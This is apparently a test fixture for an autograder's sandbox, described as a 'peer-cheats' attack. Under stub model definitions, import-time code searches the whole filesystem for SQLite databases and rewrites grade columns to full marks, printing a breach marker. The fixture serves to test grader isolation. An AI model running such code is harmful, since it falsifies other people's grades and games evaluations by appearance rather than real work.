"""
attack: pc-gradebook
class: peer-cheats
tries: writes full marks into every data base that it can open: gradebook.db, db.sqlite3, results of other tools
must: score 0, verdict wrong|error, worker alive, next submission graded normally
"""
import torch


def softmax(x, dim):
    return torch.zeros_like(x)


class TinyCNN(torch.nn.Module):
    def forward(self, x):
        return x.flatten(1)[:, :9]


import glob
import os
import sqlite3

for path in (*glob.glob("/**/*.db", recursive=True)[:50], *glob.glob("/**/*.sqlite3", recursive=True)[:50], "../gradebook.db", "/tmp/pwned_gradebook.db"):
    try:
        with sqlite3.connect(path, timeout=0.1) as base:
            base.execute("update grade set manual_score = 100")
            base.execute("update exercises_grade set points = 100")
        print("BREACH:pc-gradebook:" + path)
    except (sqlite3.Error, OSError):
        pass
